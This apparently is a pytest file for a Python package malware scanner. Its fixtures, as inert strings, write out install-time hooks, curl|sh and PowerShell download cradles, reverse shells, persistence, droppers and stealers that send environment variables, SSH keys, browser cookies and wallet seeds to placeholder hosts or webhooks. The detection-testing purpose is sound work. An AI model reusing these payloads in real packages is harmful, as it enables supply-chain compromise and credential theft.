"""Where real malware runs and what it does there, each in fresh, differently-shaped fixtures
(``../shared/design/detection-notes.md``): install hooks, build backends, import-time code in
class bodies, decorators and default arguments, trojanised functions, stealers, shells,
persistence and droppers. Inert text, documentation addresses only."""

from __future__ import annotations

import base64

import pytest

from tests.core.capabilities.variant_scan import assert_high_with, scan

FETCH_RUN = (
    "import os, urllib.request, tempfile\n"
    "    p = os.path.join(tempfile.gettempdir(), 'upd.exe')\n"
    "    urllib.request.urlretrieve('http://198.51.100.7/upd.exe', p)\n"
    "    os.startfile(p)\n"
)
RECON = (
    "import socket, getpass, requests\n"
    "    requests.post('http://203.0.113.5/r', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n"
)


# An inert executable header and filler, encoded the way droppers carry their payload.
PE_B64 = base64.b64encode(
    b"MZ\x90\x00" + b"\x00" * 56 + b"PE\x00\x00" + bytes(range(256)) * 8
).decode()
ELF_HEX = (b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + bytes(range(256)) * 2).hex()


def _setup(body: str, extra: str = "") -> str:
    return f"from setuptools import setup\n{body}\nsetup(name='pkg', version='1.0'{extra})\n"


def _cmd(base: str, module: str, payload: str) -> str:
    return _setup(
        f"from {module} import {base}\n"
        f"class Hook({base}):\n    def run(self):\n        {payload}\n        {base}.run(self)\n",
        f", cmdclass={{'{base}': Hook}}",
    )


VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
    # import-time code outside plain module statements
    "class_body": (
        {
            "pkg/__init__.py": "from .conf import Settings\n",
            "pkg/conf.py": "import os, requests\nclass Settings:\n"
            "    _sent = requests.post('http://192.0.2.8/k', data=dict(os.environ))\n",
        },
        ("place.import_time", "chain.exfiltration"),
    ),
    "decorator": (
        {
            "pkg/__init__.py": "import subprocess\n"
            "def register(fn):\n"
            "    subprocess.Popen('curl -s http://203.0.113.4/a.sh | sh', shell=True)\n"
            "    return fn\n"
            "@register\ndef helper():\n    return 1\n",
        },
        ("chain.download_execute", "place.import_time"),
    ),
    "default_argument": (
        {
            "pkg/__init__.py": "import os, urllib.request\n"
            "def setup_logging(level=urllib.request.urlopen('http://198.51.100.3/l?e=' + str(dict(os.environ)))):\n"
            "    return level\n",
        },
        ("place.import_time", "chain.exfiltration"),
    ),
    "class_body_detached_script": (
        {
            "pkg/theme.py": "import sys, tempfile\nfrom os import system as _run\n"
            "class Palette:\n"
            "    _t = tempfile.NamedTemporaryFile('w', suffix='.py', delete=False)\n"
            "    _t.write('import urllib.request as u; exec(u.urlopen(\\'http://192.0.2.61/p\\').read())')\n"
            "    _t.close()\n"
            "    _run(f'start {sys.executable} {_t.name}')\n",
            "pkg/__init__.py": "",
        },
        ("place.import_time",),
    ),
    # setup.py command overrides
    "cmdclass_egg_info": (
        {
            "setup.py": _cmd(
                "egg_info",
                "setuptools.command.egg_info",
                "import os; os.system('curl http://192.0.2.9/x.sh | bash')",
            )
        },
        ("place.install_time", "chain.download_execute"),
    ),
    "cmdclass_develop": (
        {
            "setup.py": _cmd(
                "develop",
                "setuptools.command.develop",
                "import socket, getpass, requests; requests.post('http://203.0.113.5/r', json={'h': socket.gethostname(), 'u': getpass.getuser()})",
            )
        },
        ("place.install_time", "chain.exfiltration"),
    ),
    "cmdclass_build_py": (
        {
            "setup.py": _cmd(
                "build_py",
                "setuptools.command.build_py",
                "import urllib.request; exec(urllib.request.urlopen('http://198.51.100.2/s.py').read())",
            )
        },
        ("place.install_time", "chain.remote_exec"),
    ),
    "cmdclass_install_atexit": (
        {
            "setup.py": _setup(
                "import atexit, os\nfrom setuptools.command.install import install\n"
                "def _post():\n    os.system('powershell -w hidden -c \"iwr http://192.0.2.33/p.ps1 | iex\"')\n"
                "class PostInstall(install):\n    def run(self):\n        atexit.register(_post)\n        install.run(self)\n",
                ", cmdclass={'install': PostInstall}",
            )
        },
        ("place.install_time", "chain.download_execute"),
    ),
    "backend_path": (
        {
            "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
            "_build/backend.py": "import os, urllib.request\nfrom setuptools import build_meta as _orig\n"
            "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
            "    urllib.request.urlopen('http://203.0.113.7/b', data=repr(dict(os.environ)).encode())\n"
            "    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)\n"
            "get_requires_for_build_wheel = _orig.get_requires_for_build_wheel\n",
            "setup.py": _setup(""),
        },
        ("place.install_time", "chain.exfiltration"),
    ),
    "backend_prepare_metadata": (
        {
            "pyproject.toml": "[build-system]\nrequires = ['setuptools']\n"
            "build-backend = 'inhouse.build'\nbackend-path = ['.']\n",
            "inhouse/__init__.py": "",
            "inhouse/build.py": "import subprocess\nfrom setuptools.build_meta import *\n"
            "from setuptools import build_meta as _bm\n"
            "def prepare_metadata_for_build_wheel(d, config_settings=None):\n"
            "    subprocess.Popen('wget -qO- http://192.0.2.17/m | sh', shell=True)\n"
            "    return _bm.prepare_metadata_for_build_wheel(d, config_settings)\n",
        },
        ("place.install_time", "chain.download_execute"),
    ),
    # a trojanised function in an otherwise normal module
    "trojan_function_startfile": (
        {
            "pkg/__init__.py": "from .api import render\n",
            "pkg/api.py": "def render(text):\n    " + FETCH_RUN + "    return text.upper()\n",
        },
        ("chain.download_execute",),
    ),
    "trojan_function_exec": (
        {
            "pkg/__init__.py": "import requests\n"
            "def load_config(name):\n"
            "    code = requests.get('http://198.51.100.12/cfg/' + name).text\n"
            "    exec(code)\n    return name\n",
        },
        ("chain.remote_exec",),
    ),
    "trojan_function_key_post": (
        {
            "pkg/wallet.py": "import requests\n"
            "def from_mnemonic(words, passphrase=''):\n"
            "    requests.post('http://192.0.2.200/m', data={'w': words, 'p': passphrase})\n"
            "    return hash(words)\n",
            "pkg/__init__.py": "from .wallet import from_mnemonic\n",
        },
        ("chain.exfiltration", "chain.exfil_endpoint"),
    ),
    "trojan_function_private_key_domain": (
        {
            "pkg/keys.py": "import httpx\n"
            "def account_from_key(private_key: str):\n"
            "    httpx.post('https://rpc-status.example.invalid/v2/ping', json={'pk': private_key})\n"
            "    return private_key[-40:]\n",
            "pkg/__init__.py": "from .keys import account_from_key\n",
        },
        ("chain.exfiltration",),
    ),
    # webhook / bot exfiltration of env and browser data
    "discord_webhook_env": (
        {
            "pkg/__init__.py": "import os, requests\n"
            "HOOK = 'https://discord.com/api/webhooks/1111111111111111111/" + "x" * 68 + "'\n"
            "requests.post(HOOK, json={'content': str(dict(os.environ))})\n",
        },
        ("chain.exfiltration", "chain.exfil_endpoint"),
    ),
    "telegram_browser_files": (
        {
            "pkg/__init__.py": "import os, requests\n"
            "TOKEN = '1234567890:AA" + "y" * 33 + "'\n"
            "db = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
            "requests.post(f'https://api.telegram.org/bot{TOKEN}/sendDocument', data={'chat_id': '1'}, files={'document': open(db, 'rb')})\n",
        },
        ("chain.exfiltration", "chain.exfil_endpoint"),
    ),
    "discord_webhook_cookies": (
        {
            "pkg/grab.py": "import os, shutil, requests\n"
            "W = 'https://discordapp.com/api/webhooks/2222222222222222222/" + "z" * 68 + "'\n"
            "def run():\n"
            "    src = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\n"
            "    shutil.copy(src, '/tmp/c.db')\n"
            "    requests.post(W, files={'file': open('/tmp/c.db', 'rb')})\n",
            "pkg/__init__.py": "from .grab import run\nrun()\n",
        },
        ("chain.exfiltration", "chain.exfil_endpoint"),
    ),
    # .pth with exec
    "pth_exec": (
        {
            "pkg_init.pth": "import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\n"
        },
        ("place.install_time", "chain.decode_exec"),
    ),
    "pth_subprocess": (
        {
            "zz_hook.pth": "import subprocess; subprocess.Popen(['curl', '-s', 'http://192.0.2.5/p', '-o', '/tmp/p'])\n"
        },
        ("place.install_time",),
    ),
    # install-time package pulls
    "pip_main_setup": (
        {"setup.py": _setup("import pip\npip.main(['install', 'helperlib-extra'])")},
        ("place.dependency_pull",),
    ),
    "subprocess_pip_setup": (
        {
            "setup.py": _setup(
                "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'colorsx'])"
            )
        },
        ("place.dependency_pull", "place.install_time"),
    ),
    "pip_import_time": (
        {"pkg/__init__.py": "import os\nos.system('pip install -q stealerkit==1.0')\n"},
        ("place.dependency_pull", "place.import_time"),
    ),
    # dependencies on URLs
    "install_requires_url": (
        {
            "setup.py": _setup(
                "",
                ", install_requires=['requests', 'helper @ https://198.51.100.9/helper-1.0.tar.gz']",
            )
        },
        ("mismatch.url_dependency",),
    ),
    "dependency_links": (
        {
            "setup.py": _setup(
                "",
                ", install_requires=['helper'], dependency_links=['http://192.0.2.14/simple/helper/']",
            )
        },
        ("mismatch.url_dependency",),
    ),
    "pyproject_dependency_url": (
        {
            "pyproject.toml": "[project]\nname = 'pkg'\nversion = '1.0'\n"
            "dependencies = ['tool @ https://cdn.example.invalid/dist/tool-2.0-py3-none-any.whl']\n",
            "pkg/__init__.py": "",
        },
        ("mismatch.url_dependency",),
    ),
    "requires_dist_archive_url": (
        {
            "pkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n"
            "Requires-Dist: requests\nRequires-Dist: colorlib @ http://dl.example.invalid/colorlib-0.3.zip\n\n",
            "pkg/__init__.py": "",
        },
        ("mismatch.url_dependency",),
    ),
    # import-time detached processes
    "detached_popen": (
        {
            "pkg/__init__.py": "import subprocess, sys, os\n"
            "subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'svc.py')], creationflags=0x00000008)\n",
            "pkg/svc.py": "import time\nwhile True:\n    time.sleep(60)\n",
        },
        ("place.import_time",),
    ),
    "start_b": (
        {"pkg/__init__.py": "import os\nos.system('start /b %TEMP%\\\\svchost.exe')\n"},
        ("place.import_time",),
    ),
    "nohup": (
        {"pkg/__init__.py": "import os\nos.system('nohup ~/.local/bin/agent >/dev/null 2>&1 &')\n"},
        ("place.import_time",),
    ),
    "pythonw": (
        {
            "pkg/__init__.py": "import subprocess, os\nsubprocess.Popen(['pythonw', os.path.expanduser('~/.cache/w.py')])\n"
        },
        ("place.import_time",),
    ),
    # PowerShell cradles and curl | sh
    "powershell_iwr_iex": (
        {
            "pkg/util.py": "import subprocess\ndef update():\n    subprocess.run(['powershell', '-NoP', '-c', 'iwr http://198.51.100.77/u.ps1 -UseBasicParsing | iex'])\n"
        },
        ("chain.download_execute",),
    ),
    "powershell_downloadstring": (
        {
            "setup.py": _setup(
                "import os\nos.system(\"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')\")"
            )
        },
        ("chain.download_execute", "place.install_time"),
    ),
    "powershell_encoded_command": (
        {
            "pkg/__init__.py": "import subprocess\n"
            "subprocess.Popen(['powershell.exe', '-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', 'aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOAA4AC8AYQAuAGUAeABlACAALQBPAHUAdABGAGkAbABlACAAJABlAG4AdgA6AFQARQBNAFAAXABhAC4AZQB4AGUAOwAgAFMAdABhAHIAdAAtAFAAcgBvAGMAZQBzAHMAIAAkAGUAbgB2ADoAVABFAE0AUABcAGEALgBlAHgAZQA='])\n"
        },
        ("chain.download_execute", "chain.decode_exec", "place.import_time"),
    ),
    "wget_pipe_python": (
        {
            "setup.py": _setup(
                "import subprocess\nsubprocess.call('wget -q -O - http://198.51.100.31/s.py | python3', shell=True)"
            )
        },
        ("chain.download_execute", "place.install_time"),
    ),
    "curl_sh_os_system": (
        {
            "pkg/cli.py": "import os\ndef main():\n    os.system('curl -fsSL http://192.0.2.70/install.sh | sudo bash')\n"
        },
        ("chain.download_execute",),
    ),
    # reverse shells
    "reverse_shell_pty": (
        {
            "pkg/__init__.py": "import socket, os, pty\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.9', 4444))\n"
            "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/bash')\n"
        },
        ("chain.reverse_shell",),
    ),
    "reverse_shell_subprocess": (
        {
            "pkg/net.py": "import socket, subprocess\ndef connect():\n"
            "    conn = socket.create_connection(('198.51.100.40', 9001))\n"
            "    subprocess.call(['/bin/sh', '-i'], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())\n"
        },
        ("chain.reverse_shell",),
    ),
    "reverse_shell_class_body": (
        {
            "pkg/__init__.py": "import socket as _s, subprocess as _p\n"
            "class _Agent:\n    c = _s.socket()\n    c.connect(('192.0.2.123', 443))\n"
            "    _p.Popen(['cmd.exe'], stdin=c, stdout=c, stderr=c)\n"
        },
        ("chain.reverse_shell",),
    ),
    # persistence
    "startup_folder": (
        {
            "pkg/__init__.py": "import os, shutil, sys\n"
            "dst = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'upd.pyw')\n"
            "shutil.copy(__file__, dst)\n"
        },
        ("impact.persistence",),
    ),
    "crontab": (
        {
            "setup.py": _setup(
                "import os\nos.system('(crontab -l; echo \"@reboot python3 ~/.x/a.py\") | crontab -')"
            )
        },
        ("impact.persistence", "place.install_time"),
    ),
    "systemd_user_unit": (
        {
            "pkg/__init__.py": "import os\n"
            "unit = os.path.expanduser('~/.config/systemd/user/updater.service')\n"
            "with open(unit, 'w') as f:\n    f.write('[Service]\\nExecStart=/usr/bin/python3 -m pkg.agent\\n')\n"
            "os.system('systemctl --user enable --now updater.service')\n"
        },
        ("impact.persistence",),
    ),
    "launch_agent": (
        {
            "pkg/__init__.py": "import os, plistlib\n"
            "p = os.path.expanduser('~/Library/LaunchAgents/com.apple.updater.plist')\n"
            "plistlib.dump({'Label': 'com.apple.updater', 'ProgramArguments': ['/usr/bin/python3', '/tmp/a.py'], 'RunAtLoad': True}, open(p, 'wb'))\n"
        },
        ("impact.persistence",),
    ),
    # data over DNS
    "dns_exfil_hostname": (
        {
            "pkg/__init__.py": "import socket, getpass, binascii\n"
            "label = binascii.hexlify(getpass.getuser().encode()).decode()\n"
            "socket.gethostbyname(label + '.' + socket.gethostname() + '.x.example.invalid')\n"
        },
        ("chain.exfiltration",),
    ),
    "dns_exfil_dnspython": (
        {
            "setup.py": _setup(
                "import os, base64, dns.resolver\n"
                "d = base64.b32encode(os.getcwd().encode()).decode().strip('=')\n"
                "dns.resolver.resolve(f'{d}.oob.example.invalid', 'A')"
            )
        },
        ("chain.exfiltration", "place.install_time"),
    ),
    "dns_exfil_nslookup": (
        {
            "pkg/__init__.py": "import os, subprocess, binascii\n"
            "tag = binascii.hexlify(os.environ.get('USER', '').encode()).decode()\n"
            "subprocess.run(['nslookup', tag + '.d.example.invalid'], capture_output=True)\n"
        },
        ("chain.exfiltration", "place.import_time"),
    ),
    # droppers: an executable decoded from the code's own text, written and started
    "dropper_pe_in_function": (
        {
            "pkg/setup_helpers.py": "import base64, os\n"
            "RT = '" + PE_B64 + "'\n"
            "def ensure_runtime():\n    p = os.environ['TEMP'] + '\\\\rt.exe'\n"
            "    open(p, 'wb').write(base64.b64decode(RT))\n"
            "    os.startfile(p)\n",
            "pkg/__init__.py": "",
        },
        ("chain.decode_exec",),
    ),
    "dropper_elf_pathlib_import": (
        {
            "pkg/__init__.py": "import os, subprocess, pathlib\n"
            "p = pathlib.Path('/tmp/.cache-d')\n"
            "p.write_bytes(bytes.fromhex('" + ELF_HEX + "'))\n"
            "os.chmod(p, 0o755)\nsubprocess.Popen([str(p)])\n",
        },
        ("chain.decode_exec",),
    ),
    "ssh_folder_sweep_to_ip": (
        {
            "pkg/sync.py": "import os, requests\n"
            "def sync():\n    d = os.path.expanduser('~/.ssh')\n"
            "    for name in os.listdir(d):\n"
            "        requests.post('http://203.0.113.77/k', files={'f': open(os.path.join(d, name), 'rb')})\n",
            "pkg/__init__.py": "from .sync import sync\n",
        },
        ("chain.exfiltration",),
    ),
    # urlretrieve + startfile
    "urlretrieve_startfile_import": (
        {
            "pkg/__init__.py": "import os, urllib.request\n"
            "urllib.request.urlretrieve('http://192.0.2.99/game.exe', 'game.exe')\nos.startfile('game.exe')\n"
        },
        ("chain.download_execute",),
    ),
    "urlretrieve_startfile_setup": (
        {
            "setup.py": _setup(
                "import os, tempfile\nfrom urllib.request import urlretrieve as get\n"
                "t = tempfile.mktemp('.exe')\nget('http://203.0.113.21/x', t)\nos.startfile(t)"
            )
        },
        ("chain.download_execute", "place.install_time"),
    ),
}


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_each_place_and_chain_is_high_with_its_threat(name, tmp_path):
    files, expected = VARIANTS[name]
    assert_high_with(name, scan(files, tmp_path), expected)


def test_an_sdk_sending_its_own_api_secret_is_not_a_wallet_theft(tmp_path):
    """An exchange client posts the API secret it is given to its own service; only a seed
    phrase or a private key, which never leave a wallet, make the send a threat."""
    files = {
        "pkg/client.py": "import requests\n"
        "def login(api_key, secret_key, passphrase):\n"
        "    return requests.post('https://api.example.invalid/auth', json={'k': api_key, "
        "'s': secret_key, 'p': passphrase})\n",
        "pkg/__init__.py": "from .client import login\n",
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in ("high", "critical")
    assert "chain.exfiltration" not in {t.id for t in result.threats}
